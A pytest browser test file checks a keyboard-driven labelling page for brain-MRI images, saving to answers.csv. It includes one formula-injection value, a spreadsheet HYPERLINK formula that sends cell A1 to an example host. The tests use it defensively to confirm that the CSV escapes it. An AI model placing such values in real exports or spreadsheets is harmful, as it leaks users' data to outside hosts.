"""A reader answers two hundred images in Chromium by keyboard alone, and saves what `retrain` and `evaluate` read."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from btc_ray.dataset.answers import COLUMNS, NOT_A_HEAD, UNSURE, read_answers
from btc_ray.storage import Place
from tests.browser import MISSING, Browser, Scheme, Visit, find_browser
from tests.reports import pages
from tests.reports.test_pages_in_a_browser import TOO_FAINT, TOO_WIDE

ROWS = 200
CLASSES = ("glioma", "meningioma", "notumor", "pituitary")
FORMULA = '=HYPERLINK("https://example.org?"&A1,"see")'

pytestmark = [pytest.mark.slow, pytest.mark.skipif(find_browser() is None, reason=MISSING)]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict[str, Any]]]:
    text, rows = pages.review(ROWS)
    page = tmp_path_factory.mktemp("answers") / "review.html"
    page.write_bytes(text.encode())
    return page, rows


@pytest.fixture
def rows(made: tuple[Path, list[dict[str, Any]]]) -> list[dict[str, Any]]:
    """In reading order."""
    return made[1]


@pytest.fixture
def reading(browser: Browser, made: tuple[Path, list[dict[str, Any]]]) -> Iterator[Browser]:
    """The page with nothing answered; it has nothing to complain of afterwards."""
    browser.open(made[0], width=1280, height=900)
    browser.evaluate("localStorage.clear()")
    visit = browser.open(made[0], width=1280, height=900)
    yield browser
    browser.evaluate("localStorage.clear()")  # other tests open the same page; and whatever has happened until now is told
    assert visit == Visit(requests=[request for request in visit.requests if request.startswith("blob:")])


def begin(browser: Browser, reader: str = "RB") -> None:
    """Name the reader and open the images, by keys."""
    browser.press("Tab")
    browser.press("Tab")
    browser.type(reader)
    browser.press("Tab", shift=True)
    browser.press("Enter")
    assert browser.evaluate("reading.open")


def text(browser: Browser, name: str) -> str:
    return browser.evaluate(f"document.getElementById('{name}').textContent")


def saved(browser: Browser, folder: Path) -> list[dict[str, str]]:
    content = browser.download(folder, "answers.csv", "save.click()").decode()
    return list(csv.DictReader(io.StringIO(content, newline="")))


def test_two_hundred_images_are_answered_by_keys_and_saved(reading: Browser, rows: list[dict[str, Any]], tmp_path: Path) -> None:
    begin(reading)
    keys = ["r", "1", "2", "3", "4", "n", "u"]
    meaning = dict(zip(keys[1:], [*CLASSES, NOT_A_HEAD, UNSURE], strict=True))
    pressed = [keys[number % len(keys)] for number in range(ROWS)]
    for number, key in enumerate(pressed):
        if number % 50 == 0:
            assert text(reading, "which") == f"Image {number + 1} of {ROWS}"
            assert text(reading, "reached") == f"{number} of {ROWS} answered"
        reading.press(key)
    assert text(reading, "said").endswith("All 200 are answered: save answers.csv.")
    reading.press("Escape")
    assert text(reading, "far") == "200 of 200 answered"
    found = {int(row["row_id"]): row for row in saved(reading, tmp_path)}
    assert tuple(next(iter(found.values()))) == COLUMNS
    assert len(found) == ROWS
    for key, row in zip(pressed, rows, strict=True):
        one = found[row["row_id"]]
        assert one["answer"] == meaning.get(key, row["label"])
        assert (one["content_sha256"], one["label"], one["reader"]) == (row["content_sha256"], row["label"], "RB")
        assert (one["run"], one["uri"]) == (pages.RUN_ID, row["uri"])
        assert datetime.now(UTC) - datetime.fromisoformat(one["time"]) < timedelta(minutes=10)
    assert len(read_answers([Place(str(tmp_path / "answers.csv"))])) == ROWS


def test_answers_stay_in_the_browser_and_the_reader_goes_on_where_he_was(reading: Browser, made: tuple[Path, Any]) -> None:
    begin(reading)
    for key in "r1n":
        reading.press(key)
    reading.open(made[0], width=1280, height=900)
    assert text(reading, "far") == "3 of 200 answered"
    assert reading.evaluate("reader.value") == "RB"
    reading.evaluate("read.click()")
    assert text(reading, "which") == "Image 4 of 200"


def test_an_answer_is_mended_or_taken_back_and_the_reader_returns_to_the_first_that_is_open(reading: Browser) -> None:
    begin(reading)
    for key in "111":
        reading.press(key)
    for _ in range(3):
        reading.press("ArrowLeft")
    assert text(reading, "which") == "Image 1 of 200"
    assert reading.evaluate('[...document.querySelectorAll("[aria-pressed=true]")].map((one) => one.textContent)') == ["1glioma"]
    reading.press("2")
    assert text(reading, "which") == "Image 4 of 200"
    reading.press("ArrowLeft")
    reading.press("Backspace")
    assert text(reading, "reached") == "2 of 200 answered"
    reading.press("Escape")
    reading.wait_for('document.querySelector("#list .noted") !== null')  # the list is drawn when the dialog has closed
    assert reading.evaluate('[...document.querySelectorAll("#list .noted")].map((one) => one.textContent)') == [
        "answered: meningioma", "answered: glioma",
    ]  # fmt: skip


def test_only_what_the_filters_leave_is_asked_about(reading: Browser, rows: list[dict[str, Any]]) -> None:
    reading.evaluate("label.value = 'notumor'; label.dispatchEvent(new Event('input', { bubbles: true }))")
    begin(reading)
    asked = sum(row["label"] == "notumor" for row in rows)
    assert 0 < asked < ROWS
    assert text(reading, "which") == f"Image 1 of {asked}"
    for _ in range(asked):
        reading.press("r")
    assert text(reading, "said").endswith(f"All {asked} are answered: save answers.csv.")
    reading.press("Escape")
    assert text(reading, "far") == f"{asked} of 200 answered"


def test_the_random_sample_is_asked_about_in_the_order_in_which_it_was_drawn(browser: Browser, tmp_path: Path) -> None:
    page, listed = pages.review(ROWS, sample=20)
    (tmp_path / "review.html").write_bytes(page.encode())
    browser.open(tmp_path / "review.html", width=1280, height=900)
    browser.evaluate("localStorage.clear(); tier.value = 'sample'; tier.dispatchEvent(new Event('input', { bubbles: true }))")
    begin(browser)
    for key in "r" * 20:
        browser.press(key)
    assert text(browser, "said").endswith("All 20 are answered: save answers.csv.")
    browser.press("Escape")
    drawn = sorted((row for row in listed if row["drawn"] is not None), key=lambda row: row["drawn"])
    shown = browser.evaluate('[...document.querySelectorAll("#list tbody .where bdi")].map((cell) => cell.textContent)')
    assert shown == [row["uri"] for row in drawn]
    assert {int(row["row_id"]) for row in saved(browser, tmp_path)} == {row["row_id"] for row in drawn}
    assert len(listed) > ROWS  # some were only drawn
    browser.evaluate("localStorage.clear()")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_the_image_that_is_asked_about_fits_the_window_and_is_readable_by_day_and_by_night(
    width: int, scheme: Scheme, browser: Browser, made: tuple[Path, Any]
) -> None:
    browser.open(made[0], width=width, height=844, scheme=scheme, mobile=width < 760)
    browser.evaluate("reader.value = 'RB'; read.click()")
    browser.press("1")
    assert browser.evaluate("document.getElementById('reading').open && said.textContent === 'glioma – noted.'")
    assert browser.evaluate(f"({TOO_WIDE})({width})") == []
    assert browser.evaluate(f"({TOO_FAINT})()") == []
    assert browser.evaluate("reading.scrollWidth <= reading.clientWidth")
    browser.evaluate("localStorage.clear()")


def test_two_readers_of_one_browser_do_not_see_each_other_and_stand_in_one_file(reading: Browser, tmp_path: Path) -> None:
    begin(reading, "first")
    reading.press("1")
    reading.press("Escape")
    reading.evaluate("reader.value = 'second'; reader.dispatchEvent(new Event('input', { bubbles: true }))")
    assert text(reading, "far") == "0 of 200 answered"
    reading.evaluate("read.click()")
    reading.press("2")
    assert [(row["reader"], row["answer"]) for row in saved(reading, tmp_path)] == [("first", "glioma"), ("second", "meningioma")]


def test_without_a_reader_nothing_is_answered(reading: Browser) -> None:
    reading.press("Tab")
    reading.press("Enter")
    assert not reading.evaluate("reading.open")
    assert reading.evaluate("document.activeElement.id") == "reader"
    assert reading.evaluate("nobody.checkVisibility() && save.disabled")


def test_letters_that_are_typed_into_a_filter_answer_nothing(reading: Browser) -> None:
    begin(reading)
    reading.press("Escape")
    reading.evaluate("document.getElementById('text').focus()")
    for key in "run1":
        reading.press(key)
    assert text(reading, "far") == "0 of 200 answered"


def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_written_as_text_and_read_as_it_was(
    reading: Browser, tmp_path: Path
) -> None:
    begin(reading, FORMULA)
    reading.press("r")
    (row,) = saved(reading, tmp_path)
    assert row["reader"] == f"'{FORMULA}"
    (answer,) = read_answers([Place(str(tmp_path / "answers.csv"))])
    assert answer.reader == FORMULA
